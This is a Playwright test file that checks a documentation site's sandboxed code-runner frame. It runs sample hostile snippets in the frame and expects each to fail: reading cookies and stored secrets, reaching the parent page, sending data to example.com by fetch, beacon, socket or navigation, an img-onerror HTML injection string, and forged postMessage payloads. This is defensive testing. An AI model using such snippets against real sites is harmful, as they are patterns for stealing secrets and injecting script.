import type { Page } from '@playwright/test';
import { test as base, expect, expectDrawn, openPage } from './fixtures';
import { exampleOf, runCode, runSample } from './run-panel';

/* What code in the frame of a sample must not be able to do. The browser reports much of it to the console, which is not a fault here. */

const test = base.extend({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the needed fixtures from the pattern.
  complaints: async ({}, use) => use([]),
});

async function openFrame(page: Page) {
  await openPage(page, '/docs/apis/preferences');
  await expectDrawn(page);
  await page.evaluate(() => localStorage.setItem('secret-of-site', 'secret'));
  await page.context().addCookies([{ name: 'secret', value: '1', url: page.url() }]);
  return runSample(exampleOf(page, 'keys'));
}

/** What is tried: code that prints what it got, and what it must print. */
const attacks: Readonly<Record<string, readonly [code: string, outcome: RegExp | string]>> = {
  'storage of the site': ["console.log('got', localStorage.getItem('secret-of-site'))", 'got'],
  cookies: ["console.log('got', document.cookie)", 'got'],
  'the databases of the site': ["console.log('got', (await indexedDB.databases()).length)", /got.*0/],
  'the page around it': [
    "try { console.log(parent.document.title) } catch (error) { console.log('no', error.name) }",
    /no.*SecurityError/,
  ],
  'its own element': ["console.log('got', window.frameElement)", /got.*null/],
  'an address of the tab': [
    "try { top.location = 'https://example.com/' } catch (error) { console.log('no', error.name) }",
    /no.*SecurityError/,
  ],
  'the network, by fetch': [
    "await fetch('https://example.com/').catch((error) => console.log('no', error.name))",
    /no.*TypeError/,
  ],
  'the site, by fetch': ["await fetch('/docs/').catch((error) => console.log('no', error.name))", /no.*TypeError/],
  'the network, by a picture': [
    "await new Promise((done) => { const image = new Image(); image.onload = image.onerror = ({ type }) => done(console.log('got', type)); image.src = 'https://example.com/a.png'; })",
    /got.*error/,
  ],
  'the network, by a script': [
    "await import('https://example.com/a.js').catch((error) => console.log('no', error.name))",
    /no.*TypeError/,
  ],
  'the network, by a socket': [
    "await new Promise((done) => { const socket = new WebSocket('wss://example.com'); socket.onerror = () => done(console.log('no socket')); })",
    'no socket',
  ],
  'the network, by a beacon': [
    "await new Promise((done) => { addEventListener('securitypolicyviolation', ({ effectiveDirective }) => done(console.log('no', effectiveDirective))); navigator.sendBeacon('https://example.com/', 'a'); })",
    /no.*connect-src/,
  ],
  windows: ["console.log('got', open('https://example.com/'))", /got.*null/],
  dialogs: ["console.log('got', confirm('secret?'))", /got.*false/],
  'the clipboard': [
    "await navigator.clipboard.readText().catch((error) => console.log('no', error.name))",
    /no.*NotAllowedError/,
  ],
  'the position': [
    "await new Promise((done) => navigator.geolocation.getCurrentPosition(done, ({ code }) => done(console.log('no', code))))",
    /no.*1/,
  ],
  'a service worker': [
    "try { await navigator.serviceWorker.register('/docs/sw.js'); console.log('got') } catch (error) { console.log('no', error.name) }",
    /no/,
  ],
  'text that would be HTML': [
    "console.log('<img src=x onerror=parent.hacked=1>')",
    '<img src=x onerror=parent.hacked=1>',
  ],
};

test('code in the frame reaches nothing of the site', async ({ page }) => {
  const panel = await openFrame(page);
  for (const [what, [code, outcome]] of Object.entries(attacks)) {
    await page.evaluate(() => document.querySelector('.run-lines')?.replaceChildren());
    await runCode(panel, code);
    await expect(panel.locator('.run-log').first(), what).toContainText(outcome);
    await expect(panel.locator('.run-lines'), what).not.toContainText('got secret');
  }
  expect(page.url()).toMatch(/preferences$/);
  expect(page.context().pages()).toHaveLength(1);
  expect(await page.evaluate(() => ['hacked' in window, document.querySelector('.run-lines img')])).toEqual([
    false,
    null,
  ]);
});

test('the frame can not go to another address', async ({ page }) => {
  const panel = await openFrame(page);
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await runCode(panel, "location.href = 'https://example.com/?secret'");
  await expect(panel.getByRole('status')).toContainText('did not respond');
  expect(requests.filter((url) => url.includes('example.com'))).toEqual([]);
});

test('a flood of messages is stopped', async ({ page }) => {
  const panel = await openFrame(page);
  await runCode(panel, "for (let n = 0; n < 20000; n++) console.log(n, 'x'.repeat(10000))");
  await expect(panel.getByRole('status')).toContainText('more than 5000 messages');
  expect(await panel.locator('.run-lines > li').count()).toBeLessThanOrEqual(201);
});

test('messages of another shape, and of other windows, are ignored', async ({ page }) => {
  const panel = await openFrame(page);
  const before = await panel.locator('.run-lines > li').count();
  await page.evaluate(() =>
    window.postMessage({ type: 'log', time: 0, values: [{ kind: 'string', text: 'forged' }] }, '*'),
  );
  await runCode(
    panel,
    "for (const message of [null, 1, {}, { type: 'log', time: 0, values: 'abc' }, { type: 'call', time: 0, id: 1, name: {}, values: [] }]) parent.postMessage(message, '*'); console.log('through')",
  );
  await expect(panel).toContainText('through');
  await expect(panel).not.toContainText('forged');
  expect(await panel.locator('.run-lines > li').count()).toBe(before + 1);
});

test('an address can not bring code into a page of its own', async ({ page }) => {
  for (const hash of ['alert(1)', '../../x.1', '00000000.0', 'https://example.com/a.js'])
    await page.goto(`/docs/run/v4/#${hash}`);
  expect(await page.evaluate(() => [self.origin, document.body.childElementCount])).toEqual(['null', 0]);
});

test('the document of a frame runs nothing by itself, and nobody else can frame the site', async ({ page }) => {
  const frame = await page.request.get('/docs/run/v4/');
  const policy = frame.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("frame-ancestors 'self'");
  expect(policy).toContain('sandbox allow-scripts');
  const others = await page.request.get('/docs/apis/preferences');
  expect(others.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(others.headers()['access-control-allow-origin']).toBeUndefined();
  await page.goto('/docs/run/v4/');
  expect(await page.evaluate(() => [location.origin, self.origin, document.body.children.length])).toEqual([
    expect.stringContaining('http'),
    'null',
    0,
  ]);
});
